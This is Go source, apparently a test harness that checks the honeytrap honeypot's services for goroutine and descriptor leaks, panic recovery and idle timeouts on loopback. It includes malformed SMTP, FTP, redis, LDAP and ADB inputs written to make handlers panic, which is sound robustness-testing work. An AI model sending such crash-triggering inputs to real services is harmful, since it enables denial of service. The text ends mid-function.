// Part "sweep", service "deploy": the real server (server.New + Run, socket listener on
// loopback, findService, server.handle with its recover and its 30 s TimeoutConn) with real
// services behind it.
//  (1) sessions that end in a handler panic recovered by server.handle: goroutines and
//      descriptors must be back at the baseline exactly as after a normal session;
//  (2) a port shared by several services, the first one with a detector (the first bytes are
//      peeked before a service is chosen), and clients that are silent from the start, after
//      one byte, or after a first segment: the server must drop them after its idle timeout.
package main

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"verif/harness/hx"
	"verif/harness/lab"
)

type deployStep struct {
	Name   string
	Port   int      // index into the port list
	Script []string // client writes, one after the other, replies drained in between
	Silent bool     // (2): the client then stays connected and silent
}

var deployPorts = []string{"smtp", "ftp", "redis", "ldap", "adb", "shared"}

func deploySteps() []deployStep {
	login := []string{"USER anonymous\r\n", "PASS anonymous\r\n"}
	return []deployStep{
		// normal sessions first (control), then the ones that panic
		{Name: "smtp quit", Port: 0, Script: []string{"HELO x\r\n", "QUIT\r\n"}},
		{Name: "smtp BDAT without size", Port: 0, Script: []string{"HELO x\r\n", "MAIL FROM:<a@b>\r\n", "BDAT\r\n"}},
		{Name: "ftp quit", Port: 1, Script: append(append([]string{}, login...), "QUIT\r\n")},
		{Name: "ftp PORT 1,2", Port: 1, Script: append(append([]string{}, login...), "PORT 1,2\r\n")},
		{Name: "ftp EPRT |1|", Port: 1, Script: append(append([]string{}, login...), "EPRT |1|\r\n")},
		{Name: "redis *0", Port: 2, Script: []string{"*0\r\n"}},
		{Name: "ldap extended request without children", Port: 3, Script: []string{"\x30\x05\x02\x01\x01\x77\x00"}},
		{Name: "adb short OPEN", Port: 4, Script: []string{string(adbPacket("CNXN", 0x01000000, 4096, []byte("host::\x00"))), "OPEN"}},
		// shared port
		{Name: "shared: talks", Port: 5, Script: []string{"GET / HTTP/1.0\r\n\r\n"}},
		{Name: "shared: silent from the start", Port: 5, Silent: true},
		{Name: "shared: silent after one byte", Port: 5, Script: []string{"G"}, Silent: true},
		{Name: "shared: silent after a first segment that no detector takes", Port: 5, Script: []string{"XY"}, Silent: true},
		{Name: "shared: silent after the detector's prefix", Port: 5, Script: []string{"GET "}, Silent: true},
	}
}

const deploySessions = 4 // sessions per step

func runDeploy(sp Spec, scratch string, res *ChildResult, write func()) {
	ports := lab.FreePorts(len(deployPorts))
	root := filepath.Join(scratch, "ftproot")
	os.MkdirAll(root, 0o755)
	var sb strings.Builder
	sb.WriteString("[listener]\ntype=\"socket\"\n\n")
	fmt.Fprintf(&sb, "[service.smtp]\ntype=\"smtp\"\n\n[service.ftp]\ntype=\"ftp\"\nfs_base=%q\n\n[service.redis]\ntype=\"redis\"\n\n[service.ldap]\ntype=\"ldap\"\n\n[service.adb]\ntype=\"adb\"\n\n", root)
	sb.WriteString("[service.det]\ntype=\"verif-stub-det\"\nname=\"det\"\nprefix=\"GET \"\nreadsize=512\n\n[service.plain]\ntype=\"verif-stub\"\nname=\"plain\"\nreadsize=512\n\n")
	for i, name := range deployPorts {
		svcs := `"` + name + `"`
		if name == "shared" {
			svcs = `"det","plain"`
		}
		fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/127.0.0.1:%d\"\nservices=[%s]\n\n", ports[i], svcs)
	}
	l, err := lab.StartSocket(sb.String(), scratch, fmt.Sprintf("127.0.0.1:%d", ports[5]))
	if err != nil {
		hx.Fatal("deploy: %v", err)
	}
	_ = l
	session := func(st deployStep) net.Conn {
		c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", ports[st.Port]), 5*time.Second)
		if err != nil {
			hx.Fatal("deploy dial: %v", err)
		}
		buf := make([]byte, 4096)
		drain := func() {
			c.SetReadDeadline(time.Now().Add(150 * time.Millisecond))
			for {
				if _, err := c.Read(buf); err != nil {
					return
				}
			}
		}
		drain()
		for _, s := range st.Script {
			c.SetWriteDeadline(time.Now().Add(2 * time.Second))
			c.Write([]byte(s))
			drain()
		}
		return c
	}
	steps := deploySteps()
	// warm-up: one normal session per port, then the baseline
	for _, st := range steps {
		if !st.Silent && (strings.HasSuffix(st.Name, "quit") || strings.HasSuffix(st.Name, "talks")) {
			session(st).Close()
		}
	}
	time.Sleep(300 * time.Millisecond)
	g0 := settle()
	settleBase = g0
	f0, l0 := fdCounts()
	idle := time.Duration(sp.DeadlineMs) * time.Millisecond // the server's own idle timeout (fact)
	for _, st := range steps {
		if st.Silent {
			continue
		}
		var ob ConnObs
		ob.Outcome = "returned"
		for i := 0; i < deploySessions; i++ {
			session(st).Close()
		}
		g := settle()
		f, lis := fdCounts()
		ob.Gor, ob.Lis, ob.Fds = g-g0, lis-l0, f-f0
		res.Conns = append(res.Conns, ob)
	}
	// all the silent clients at once: they wait out the same idle timeout side by side
	type group struct {
		cs      []net.Conn
		dropped int
	}
	var groups []*group
	open := 0
	for _, st := range steps {
		if !st.Silent {
			continue
		}
		gr := &group{}
		for i := 0; i < deploySessions; i++ {
			gr.cs = append(gr.cs, session(st))
			open++
		}
		groups = append(groups, gr)
	}
	// the server must hang up by itself after its idle timeout (bounded, generously)
	limit := time.Now().Add(idle + time.Duration(sp.WaitMs)*time.Millisecond)
	buf := make([]byte, 64)
	for _, gr := range groups {
		for _, c := range gr.cs {
			for {
				c.SetReadDeadline(limit)
				_, err := c.Read(buf)
				if err == nil {
					continue
				}
				if ne, ok := err.(net.Error); !(ok && ne.Timeout()) {
					gr.dropped++
				}
				break
			}
		}
	}
	g := settle()
	f, lis := fdCounts()
	for _, gr := range groups {
		var ob ConnObs
		ob.Outcome = "returned"
		ob.Gor, ob.Lis, ob.Fds = g-g0, lis-l0, f-f0-open // the clients' own sockets are still open
		if gr.dropped < len(gr.cs) {
			ob.Outcome = "blocked"
		}
		res.Conns = append(res.Conns, ob)
	}
	for _, gr := range groups {
		for _, c := range gr.cs {
			c.Close()
		}
	}
	write()
}
