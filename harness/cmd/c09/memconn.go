// An in-memory, address-carrying connection whose client side is a script: pending
// segments (one Read returns at most one, possibly partial, segment) and then either
// end of stream (client closed) or silence (Read waits for the deadline).  Writes never
// block and always succeed (a peer that has sent FIN still accepts data for a while).
// It counts what the handler does.
package main

import (
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

type timeoutErr struct{}

func (timeoutErr) Error() string   { return "i/o timeout" }
func (timeoutErr) Timeout() bool   { return true }
func (timeoutErr) Temporary() bool { return true }

type counters struct {
	reads, zero, timeouts, eofs, writes, wbytes, wtimeouts int64
}

type memConn struct {
	mu       sync.Mutex
	segs     [][]byte
	end      string // close | silent
	deadline time.Time
	closed   chan struct{}
	once     sync.Once
	L, R     net.Addr
	cnt      counters
	onWrite  func([]byte)
	drained  chan struct{} // closed when the script is exhausted (first Read past the last segment)
	dOnce    sync.Once
	// a client that paces itself: before handing out segment number pauseAt (0-based) the
	// Read waits for pause (or until the handler's side closes the connection)
	pauseAt   int
	pause     time.Duration
	delivered int
	// a peer that stops READING: it takes room more bytes (room < 0: it keeps reading), after
	// that a Write blocks until the write deadline (none set: for ever) or Close
	room      int64
	wdeadline time.Time
}

func newMemConn(l, r net.Addr, segs [][]byte, end string) *memConn {
	c := &memConn{L: l, R: r, end: end, closed: make(chan struct{}), drained: make(chan struct{}), pauseAt: -1, room: -1}
	for _, s := range segs {
		c.segs = append(c.segs, append([]byte{}, s...))
	}
	return c
}

func (c *memConn) Read(p []byte) (int, error) {
	atomic.AddInt64(&c.cnt.reads, 1)
	c.mu.Lock()
	select {
	case <-c.closed:
		c.mu.Unlock()
		return 0, io.ErrClosedPipe
	default:
	}
	if len(c.segs) > 0 && c.delivered == c.pauseAt && c.pause > 0 {
		d := c.pause
		c.pause = 0
		c.mu.Unlock()
		select {
		case <-time.After(d):
		case <-c.closed:
			return 0, io.ErrClosedPipe
		}
		c.mu.Lock()
	}
	if len(c.segs) > 0 {
		s := c.segs[0]
		n := copy(p, s)
		if n < len(s) {
			c.segs[0] = s[n:]
		} else {
			c.segs = c.segs[1:]
			c.delivered++
		}
		c.mu.Unlock()
		if n == 0 {
			atomic.AddInt64(&c.cnt.zero, 1)
		}
		return n, nil
	}
	end, dl := c.end, c.deadline
	c.mu.Unlock()
	c.dOnce.Do(func() { close(c.drained) })
	if end == "close" {
		atomic.AddInt64(&c.cnt.eofs, 1)
		return 0, io.EOF
	}
	var t <-chan time.Time
	if !dl.IsZero() {
		tm := time.NewTimer(time.Until(dl))
		defer tm.Stop()
		t = tm.C
	}
	select {
	case <-t:
		atomic.AddInt64(&c.cnt.timeouts, 1)
		return 0, timeoutErr{}
	case <-c.closed:
		return 0, io.ErrClosedPipe
	}
}

func (c *memConn) Write(p []byte) (int, error) {
	atomic.AddInt64(&c.cnt.writes, 1)
	atomic.AddInt64(&c.cnt.wbytes, int64(len(p)))
	c.mu.Lock()
	room, dl := c.room, c.wdeadline
	if room >= 0 && int64(len(p)) > room {
		c.room = 0
	} else if room >= 0 {
		c.room -= int64(len(p))
	}
	c.mu.Unlock()
	if room < 0 || int64(len(p)) <= room {
		if c.onWrite != nil {
			c.onWrite(p)
		}
		return len(p), nil
	}
	if c.onWrite != nil && room > 0 {
		c.onWrite(p[:room])
	}
	var t <-chan time.Time
	if !dl.IsZero() {
		tm := time.NewTimer(time.Until(dl))
		defer tm.Stop()
		t = tm.C
	}
	select {
	case <-t:
		atomic.AddInt64(&c.cnt.wtimeouts, 1)
		return int(room), timeoutErr{}
	case <-c.closed:
		return int(room), io.ErrClosedPipe
	}
}

func (c *memConn) Close() error {
	c.once.Do(func() { close(c.closed) })
	return nil
}
func (c *memConn) LocalAddr() net.Addr  { return c.L }
func (c *memConn) RemoteAddr() net.Addr { return c.R }
func (c *memConn) SetDeadline(t time.Time) error {
	c.mu.Lock()
	c.deadline, c.wdeadline = t, t
	c.mu.Unlock()
	return nil
}
func (c *memConn) SetReadDeadline(t time.Time) error {
	c.mu.Lock()
	c.deadline = t
	c.mu.Unlock()
	return nil
}
func (c *memConn) SetWriteDeadline(t time.Time) error {
	c.mu.Lock()
	c.wdeadline = t
	c.mu.Unlock()
	return nil
}

// udpMeter counts on top of the real listener.DummyUDPConn.
type udpMeter struct {
	net.Conn
	cnt counters
}

func (m *udpMeter) Read(p []byte) (int, error) {
	n, err := m.Conn.Read(p)
	atomic.AddInt64(&m.cnt.reads, 1)
	if err == nil && n == 0 {
		atomic.AddInt64(&m.cnt.zero, 1)
	}
	if err != nil {
		if ne, ok := err.(net.Error); ok && ne.Timeout() {
			atomic.AddInt64(&m.cnt.timeouts, 1)
		} else if n == 0 {
			atomic.AddInt64(&m.cnt.eofs, 1)
		}
	}
	return n, err
}

func (m *udpMeter) Write(p []byte) (int, error) {
	atomic.AddInt64(&m.cnt.writes, 1)
	atomic.AddInt64(&m.cnt.wbytes, int64(len(p)))
	return m.Conn.Write(p)
}
