// C09 child process: one service instance, a history of sequential connections.
// Everything that may spin, block for ever or leak runs here; the parent only
// orchestrates.  The child exits right after the first handler that does not return.
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"image"
	"image/png"
	"io/ioutil"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/BurntSushi/toml"
	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/services"
	_ "github.com/honeytrap/honeytrap/services/docker"
	_ "github.com/honeytrap/honeytrap/services/elasticsearch"
	_ "github.com/honeytrap/honeytrap/services/eos"
	_ "github.com/honeytrap/honeytrap/services/ethereum"
	_ "github.com/honeytrap/honeytrap/services/ftp"
	_ "github.com/honeytrap/honeytrap/services/ipp"
	_ "github.com/honeytrap/honeytrap/services/ldap"
	_ "github.com/honeytrap/honeytrap/services/redis"
	_ "github.com/honeytrap/honeytrap/services/smtp"
	_ "github.com/honeytrap/honeytrap/services/snmp"
	_ "github.com/honeytrap/honeytrap/services/ssh"
	_ "github.com/honeytrap/honeytrap/services/telnet"
	_ "github.com/honeytrap/honeytrap/services/vnc"
	"github.com/honeytrap/honeytrap/storage"
	logging "github.com/op/go-logging"

	"verif/harness/hx"
)

// Conn is one connection of a history.
type Conn struct {
	Segs []hx.B `json:"segs"`           // client writes (TCP: one Write each; UDP: concatenated = the datagram)
	End  string `json:"end"`            // close | silent   (UDP: ignored, the datagram is simply consumed)
	Room *int   `json:"room,omitempty"` // the peer stops READING after this many bytes (nil: it keeps reading) and keeps the connection open
	Dial string `json:"dial,omitempty"` // ftp, every passive port announced: "" never connects | knock: connects and closes | hold: connects and stays silent
}

// Spec is what one child runs.
type Spec struct {
	Svc        string `json:"svc"`
	Proto      string `json:"proto"` // tcp | udp
	V6         bool   `json:"v6"`    // local address is an IPv6 address
	Conn       Conn   `json:"conn"`
	N          int    `json:"n"`           // the connection is repeated N times
	DeadlineMs int    `json:"deadline_ms"` // idle deadline given to server.TimeoutConn
	WaitMs     int    `json:"wait_ms"`     // bounded wait for Handle after the client is gone
	Perturb    string `json:"perturb,omitempty"`
	Sweep      *SweepIn `json:"sweep,omitempty"` // part "sweep": unmodelled service, scenario by number
	Dgram      *DgramIn `json:"dgram,omitempty"` // part "dgram": the datagrams of one service, one after the other
	SettleMs   int    `json:"settle_ms"` // one passive-socket timeout (+ margin): waited when a recovered panic left something behind
}

// ConnObs is what was observed on one connection.
type ConnObs struct {
	Outcome   string `json:"outcome"` // returned | panic | spin | blocked
	Reads     int64  `json:"reads"`
	ZeroReads int64  `json:"zero_reads"` // Read returned (0, nil)
	Timeouts  int64  `json:"timeouts"`   // Read returned a timeout error
	EOFs      int64  `json:"eofs"`
	Writes    int64  `json:"writes"`
	WBytes    int64  `json:"wbytes"`
	WTimeouts int64  `json:"wtimeouts"`  // Write returned a timeout error (the peer had stopped reading)
	ElapsedMs int64  `json:"elapsed_ms"` // from "client gone" to Handle returning
	Gor       int    `json:"gor"`        // honeytrap goroutines above the baseline after this connection
	Lis       int    `json:"lis"`        // listening sockets above the baseline
	Fds       int    `json:"fds"`        // open descriptors above the baseline
	Panic     string `json:"panic,omitempty"`
	P227      int    `json:"p227"` // ftp: passive-mode replies (227/229) seen by the client
	Relay     int    `json:"relay,omitempty"` // part "dgram", relaying services: 1 the backend got the datagram whole, 2 something else, 3 nothing
	Fwd       int    `json:"fwd,omitempty"`   // ... and how many bytes it got

	perturbGor int
}

type ChildResult struct {
	Conns  []ConnObs `json:"conns"`
	LisGC  int       `json:"lis_gc"` // listening sockets above the baseline after a forced GC + finalizers
	FdsGC  int       `json:"fds_gc"`
	GorGC  int       `json:"gor_gc"`
	Settled []int    `json:"settled,omitempty"` // goroutines, listeners, descriptors above the baseline one passive-socket timeout later
	Events int64     `json:"events"`
	Lists  [][]hx.B  `json:"lists,omitempty"`
	Err    string    `json:"err,omitempty"`
}

type countChannel struct {
	n     int64
	mu    sync.Mutex
	lists [][]hx.B // the string lists ssh-simulator decoded from env / exec request payloads, in order
}

func (c *countChannel) Send(e event.Event) {
	atomic.AddInt64(&c.n, 1)
	e.Range(func(k, v interface{}) bool {
		if ks, ok := k.(string); ok && (ks == "ssh.env" || ks == "ssh.exec") {
			if l, ok := v.([]string); ok {
				var o []hx.B
				for _, x := range l {
					o = append(o, hx.B(x))
				}
				c.mu.Lock()
				c.lists = append(c.lists, o)
				c.mu.Unlock()
			}
		}
		return true
	})
}

// ---- resource probes ----

// one reusable dump buffer: the collector is off, garbage must not pile up to the memory limit
var stackBuf = make([]byte, 1<<20)
var stackBuf2 = make([]byte, 1<<20)

func honeytrapGoroutines() int {
	var buf []byte
	for {
		n := runtime.Stack(stackBuf, true)
		if n < len(stackBuf) {
			buf = stackBuf[:n]
			break
		}
		stackBuf = make([]byte, 2*len(stackBuf))
	}
	cnt := 0
	for _, g := range bytes.Split(buf, []byte("\n\n")) {
		if bytes.Contains(g, []byte("github.com/honeytrap/honeytrap/")) {
			cnt++
		}
	}
	return cnt
}

func listenInodes() map[string]bool {
	out := map[string]bool{}
	for _, f := range []string{"/proc/self/net/tcp", "/proc/self/net/tcp6"} {
		b, err := ioutil.ReadFile(f)
		if err != nil {
			continue
		}
		for i, line := range strings.Split(string(b), "\n") {
			fs := strings.Fields(line)
			if i == 0 || len(fs) < 10 {
				continue
			}
			if fs[3] == "0A" {
				out[fs[9]] = true
			}
		}
	}
	return out
}

func fdCounts() (fds, listeners int) {
	ents, err := ioutil.ReadDir("/proc/self/fd")
	if err != nil {
		return -1, -1
	}
	li := listenInodes()
	for _, e := range ents {
		fds++
		t, err := os.Readlink(filepath.Join("/proc/self/fd", e.Name()))
		if err != nil {
			continue
		}
		if strings.HasPrefix(t, "socket:[") && li[strings.TrimSuffix(strings.TrimPrefix(t, "socket:["), "]")] {
			listeners++
		}
	}
	return
}

func fdCountOnly() int {
	d, err := os.Open("/proc/self/fd")
	if err != nil {
		return -1
	}
	names, _ := d.Readdirnames(-1)
	d.Close()
	return len(names) // the descriptor of the directory itself included, as in fdCounts
}

// settle waits for goroutines that have been told to stop to be gone: up to 1.2 s for the count
// to be back at the baseline (twice in a row); if it does not get there, until it has been
// the same for three consecutive probes.  No wall-clock figure is compared anywhere.
var settleBase = -1

func settle() int {
	if settleBase >= 0 {
		hits := 0
		for i := 0; i < 240; i++ {
			time.Sleep(5 * time.Millisecond)
			if honeytrapGoroutines() == settleBase {
				hits++
				if hits == 2 {
					return settleBase
				}
			} else {
				hits = 0
			}
		}
	}
	prev, same := -1, 0
	for i := 0; i < 200; i++ {
		time.Sleep(5 * time.Millisecond)
		g := honeytrapGoroutines()
		if g == prev {
			same++
			if same == 2 {
				return g
			}
		} else {
			same = 0
		}
		prev = g
	}
	return prev
}

func cpuTime() time.Duration {
	var ru syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// ---- service construction ----

func writePNG(path string) {
	im := image.NewRGBA(image.Rect(0, 0, 8, 8))
	f, err := os.Create(path)
	if err != nil {
		hx.Fatal("png: %v", err)
	}
	png.Encode(f, im)
	f.Close()
}

func buildServiceCfg(name, cfgText string, ch *countChannel) services.Servicer {
	f, ok := services.Get(name)
	if !ok {
		hx.Fatal("service %q is not registered", name)
	}
	var cfg map[string]toml.Primitive
	md, err := toml.Decode(cfgText, &cfg)
	if err != nil {
		hx.Fatal("toml: %v", err)
	}
	s := f(services.WithConfig(cfg["s"], &md), services.WithChannel(ch))
	if s == nil {
		hx.Fatal("service %q could not be constructed", name)
	}
	return s
}

func buildService(name, scratch string, ch *countChannel) services.Servicer {
	var fn func(...services.ServicerFunc) services.Servicer
	if name == "dummy" {
		fn = services.Dummy // not in the registry under a name; it is what Get falls back to
	} else {
		f, ok := services.Get(name)
		if !ok {
			hx.Fatal("service %q is not registered", name)
		}
		fn = f
	}
	opts := []services.ServicerFunc{}
	cfgText := ""
	switch name {
	case "vnc":
		p := filepath.Join(scratch, "vnc.png")
		writePNG(p)
		cfgText = fmt.Sprintf("[s]\nimage=%q\nserver-name=\"x\"\n", p)
	case "ftp":
		os.MkdirAll(filepath.Join(scratch, "ftproot"), 0o755)
		cfgText = fmt.Sprintf("[s]\nfs_base=%q\n", filepath.Join(scratch, "ftproot"))
	}
	if cfgText != "" {
		var cfg map[string]toml.Primitive
		md, err := toml.Decode(cfgText, &cfg)
		if err != nil {
			hx.Fatal("toml: %v", err)
		}
		opts = append(opts, services.WithConfig(cfg["s"], &md))
	}
	opts = append(opts, services.WithChannel(ch))
	s := fn(opts...)
	if s == nil {
		hx.Fatal("service %q could not be constructed", name)
	}
	return s
}

// ---- one connection ----

var (
	heldMu sync.Mutex
	held   []net.Conn
)

// accepting counts the passive sockets still waiting for their client (Accept goroutines)
func accepting() int {
	heldMu.Lock()
	defer heldMu.Unlock()
	for {
		n := runtime.Stack(stackBuf2, true)
		if n < len(stackBuf2) {
			return bytes.Count(stackBuf2[:n], []byte("GoListenAndServe.func1"))
		}
		stackBuf2 = make([]byte, 2*len(stackBuf2))
	}
}

// waitAccepted: a client that does not pipeline - it goes on only once the server has accepted
// its data connection, i.e. once fewer Accept goroutines are waiting than before it dialled
// (sockets left behind by earlier connections keep waiting); bounded, generously
func waitAccepted(before int) {
	for i := 0; i < 5000; i++ {
		if accepting() < before {
			return
		}
		time.Sleep(time.Millisecond)
	}
}

func heldCount() int { heldMu.Lock(); defer heldMu.Unlock(); return len(held) }

func connAddrs(sp Spec, idx int) (net.IP, net.IP) {
	// every connection comes from a fresh client address (per-address limiter / tftp state)
	if sp.V6 {
		return net.ParseIP("2001:db8::1"), net.ParseIP(fmt.Sprintf("2001:db8::1:%x", idx+1))
	}
	return net.ParseIP("192.0.2.1"), net.IPv4(198, byte(51+idx/250), 100, byte(1+idx%250))
}

func runConn(svc services.Servicer, sp Spec, idx int) (ob ConnObs, gone bool) {
	deadline := time.Duration(sp.DeadlineMs) * time.Millisecond
	wait := time.Duration(sp.WaitMs) * time.Millisecond
	lip, rip := connAddrs(sp, idx)
	var base net.Conn
	var cnt *counters
	var drained chan struct{}
	var p227 int64
	if sp.Proto == "udp" {
		var d []byte
		for _, s := range sp.Conn.Segs {
			d = append(d, s...)
		}
		// exactly as listener/socket/socket.go builds it: buf[:n] of a receive buffer - for a
		// zero-length datagram an empty but non-nil slice
		rbuf := make([]byte, 65536)
		d = rbuf[:copy(rbuf, d)]
		m := &udpMeter{Conn: &listener.DummyUDPConn{Buffer: d, Laddr: &net.UDPAddr{IP: lip, Port: 53}, Raddr: &net.UDPAddr{IP: rip, Port: 40000},
			Fn: func(b []byte, addr *net.UDPAddr) (int, error) { return len(b), nil }}}
		base, cnt = m, &m.cnt
		drained = make(chan struct{})
		close(drained) // the datagram is all there is
	} else {
		var segs [][]byte
		for _, s := range sp.Conn.Segs {
			segs = append(segs, s)
		}
		mc := newMemConn(&net.TCPAddr{IP: lip, Port: 21}, &net.TCPAddr{IP: rip, Port: 40000}, segs, sp.Conn.End)
		if sp.Conn.Room != nil {
			mc.room = int64(*sp.Conn.Room)
		}
		if sp.Svc == "ftp" {
			var acc []byte
			mc.onWrite = func(p []byte) { // the client reads the replies; it may dial announced passive ports
				acc = append(acc, p...)
				for {
					i := bytes.IndexByte(acc, '\n')
					if i < 0 {
						break
					}
					line := string(acc[:i])
					acc = acc[i+1:]
					if strings.HasPrefix(line, "227 ") || strings.HasPrefix(line, "229 ") {
						atomic.AddInt64(&p227, 1)
						if port := passivePort(line); port > 0 && sp.Conn.Dial != "" {
							host := "127.0.0.1"
							if sp.V6 {
								host = "[::1]"
							}
							before := accepting()
							if dc, err := net.DialTimeout("tcp", fmt.Sprintf("%s:%d", host, port), 5*time.Second); err == nil {
								waitAccepted(before)
								if sp.Conn.Dial == "knock" {
									dc.Close()
								} else {
									heldMu.Lock()
									held = append(held, dc) // the harness's own descriptors are subtracted
									heldMu.Unlock()
								}
							}
						}
					}
				}
			}
		}
		base, cnt, drained = mc, &mc.cnt, mc.drained
	}
	var conn net.Conn = base
	if sp.Perturb != "no-timeout-wrapper" {
		conn = server.TimeoutConn(base, deadline)
	}
	type ret struct {
		panicked string
		at       time.Time
	}
	done := make(chan ret, 1)
	go func() {
		var r ret
		defer func() {
			if e := recover(); e != nil {
				r.panicked = fmt.Sprint(e)
				if r.panicked == "" {
					r.panicked = "panic"
				}
			}
			conn.Close() // what server.handle does after Handle: defer conn.Close()
			r.at = time.Now()
			done <- r
		}()
		svc.Handle(context.Background(), conn)
	}()
	var t0 time.Time
	var r ret
	returned := false
	select {
	case <-drained:
		t0 = time.Now()
		select {
		case r = <-done:
			returned = true
		case <-time.After(wait):
		}
	case r = <-done: // finished without reading everything
		returned = true
		t0 = r.at
	case <-time.After(wait + 20*deadline): // neither reads on nor returns
	}
	if returned {
		ob.Outcome = "returned"
		if r.panicked != "" {
			ob.Outcome = "panic"
			ob.Panic = r.panicked
			if len(ob.Panic) > 120 {
				ob.Panic = ob.Panic[:120]
			}
		}
		ob.ElapsedMs = int64(r.at.Sub(t0) / time.Millisecond)
		if ob.ElapsedMs < 0 {
			ob.ElapsedMs = 0
		}
	} else {
		// spinning or blocked?  CPU time of the process and Read calls over an idle window
		c0, r0 := cpuTime(), atomic.LoadInt64(&cnt.reads)
		time.Sleep(150 * time.Millisecond)
		c1, r1 := cpuTime(), atomic.LoadInt64(&cnt.reads)
		if c1-c0 > 60*time.Millisecond || r1-r0 > 1000 || r1 > 5000 {
			ob.Outcome = "spin"
		} else {
			ob.Outcome = "blocked"
		}
		ob.ElapsedMs = int64(wait / time.Millisecond)
		gone = true
	}
	ob.Reads, ob.ZeroReads, ob.Timeouts, ob.EOFs = atomic.LoadInt64(&cnt.reads), atomic.LoadInt64(&cnt.zero), atomic.LoadInt64(&cnt.timeouts), atomic.LoadInt64(&cnt.eofs)
	ob.Writes, ob.WBytes, ob.WTimeouts = atomic.LoadInt64(&cnt.writes), atomic.LoadInt64(&cnt.wbytes), atomic.LoadInt64(&cnt.wtimeouts)
	ob.P227 = int(atomic.LoadInt64(&p227))
	switch sp.Perturb { // sanity tests of the check itself (never set by the generator)
	case "obs-leak":
		ob.perturbGor = 1
	case "obs-deadlines":
		ob.Timeouts += 4
	}
	return
}

func passivePort(line string) int {
	// 227 Entering Passive Mode (a,b,c,d,p1,p2)   |   229 Entering Extended Passive Mode (|||port|)
	if i := strings.Index(line, "(|||"); i >= 0 {
		var p int
		fmt.Sscanf(line[i+4:], "%d", &p)
		return p
	}
	i, j := strings.Index(line, "("), strings.Index(line, ")")
	if i < 0 || j < i {
		return 0
	}
	parts := strings.Split(line[i+1:j], ",")
	if len(parts) != 6 {
		return 0
	}
	var p1, p2 int
	fmt.Sscanf(parts[4], "%d", &p1)
	fmt.Sscanf(parts[5], "%d", &p2)
	return p1*256 + p2
}

func childMain(specPath, outPath string) {
	logging.SetBackend(logging.NewLogBackend(ioutil.Discard, "", 0))
	debug.SetGCPercent(-1) // finalizers must not close forgotten sockets behind our back
	debug.SetMemoryLimit(768 << 20)
	b, err := ioutil.ReadFile(specPath)
	if err != nil {
		hx.Fatal("child spec: %v", err)
	}
	var sp Spec
	if err := json.Unmarshal(b, &sp); err != nil {
		hx.Fatal("child spec: %v", err)
	}
	scratch, err := ioutil.TempDir(filepath.Dir(outPath), "c09child")
	if err != nil {
		hx.Fatal("scratch: %v", err)
	}
	defer os.RemoveAll(scratch)
	os.Chdir(scratch)
	os.MkdirAll(filepath.Join(scratch, "db"), 0o755)
	storage.SetDataDir(filepath.Join(scratch, "db"))
	ch := &countChannel{}
	if sp.Sweep != nil && sp.Sweep.Svc == "deploy" {
		var res ChildResult
		runDeploy(sp, scratch, &res, func() {
			jb, _ := json.Marshal(res)
			ioutil.WriteFile(outPath, jb, 0o644)
		})
		os.RemoveAll(scratch)
		os.Exit(0)
	}
	if sp.Sweep != nil && sp.Sweep.Svc == "deploy-udp" {
		var res ChildResult
		runDeployUDP(sp, scratch, &res, func() {
			jb, _ := json.Marshal(res)
			ioutil.WriteFile(outPath, jb, 0o644)
		})
		os.RemoveAll(scratch)
		os.Exit(0)
	}
	var svc services.Servicer
	if sp.Dgram != nil {
		svc = buildDgramService(sp.Dgram, scratch, ch)
	} else if sp.Sweep != nil {
		sweepScenario = sp.Sweep.Scenario
		svc = buildSweepService(sp.Sweep.Svc, scratch, ch)
	} else {
		svc = buildService(sp.Svc, scratch, ch)
	}
	var res ChildResult
	write := func() {
		res.Events = atomic.LoadInt64(&ch.n)
		ch.mu.Lock()
		res.Lists = ch.lists
		ch.mu.Unlock()
		jb, _ := json.Marshal(res)
		ioutil.WriteFile(outPath, jb, 0o644)
	}
	time.Sleep(10 * time.Millisecond)
	g0 := settle()
	settleBase = g0
	f0, l0 := fdCounts()
	lastFds, lastLis := f0, l0
	for i := 0; i < sp.N; i++ {
		var ob ConnObs
		var gone bool
		if sp.Dgram != nil {
			ob, gone = runDgramConn(svc, sp, i)
		} else if sp.Sweep != nil {
			ob, gone = runSweepConn(svc, sp, i)
		} else {
			ob, gone = runConn(svc, sp, i)
		}
		if gone {
			g := honeytrapGoroutines()
			f, l := fdCounts()
			ob.Gor, ob.Lis, ob.Fds = g-g0, l-l0-bkListeners(), f-f0-heldCount()-bkDescriptors()
			res.Conns = append(res.Conns, ob)
			write()
			os.RemoveAll(scratch)
			os.Exit(0)
		}
		g := settle()
		var f, l int
		if sp.Dgram != nil {
			// a listening socket that is kept is a descriptor that is kept: the (long) socket
			// table is read only when the number of descriptors has changed
			if f = fdCountOnly(); f != lastFds {
				f, l = fdCounts()
				lastFds, lastLis = f, l
			} else {
				l = lastLis
			}
		} else {
			f, l = fdCounts()
		}
		kept := ob.Lis // tftp-upload: uploads still on record (0 for every other scenario)
		ob.Gor, ob.Lis, ob.Fds = g-g0+ob.perturbGor*(i+1), l-l0-bkListeners()+kept, f-f0-heldCount()-bkDescriptors()
		res.Conns = append(res.Conns, ob)
	}
	if os.Getenv("C09_DEBUG") != "" {
		ents, _ := ioutil.ReadDir("/proc/self/fd")
		for _, e := range ents {
			t, _ := os.Readlink(filepath.Join("/proc/self/fd", e.Name()))
			fmt.Fprintln(os.Stderr, "fd", e.Name(), t)
		}
		b, _ := ioutil.ReadFile("/proc/self/net/tcp")
		fmt.Fprintln(os.Stderr, string(b))
	}
	runtime.GC()
	time.Sleep(20 * time.Millisecond)
	runtime.GC()
	time.Sleep(20 * time.Millisecond)
	g := settle()
	f, l := fdCounts()
	res.GorGC, res.LisGC, res.FdsGC = g-g0, l-l0-bkListeners(), f-f0-heldCount()-bkDescriptors()
	panicked := false
	for _, c := range res.Conns {
		if c.Outcome == "panic" {
			panicked = true
		}
	}
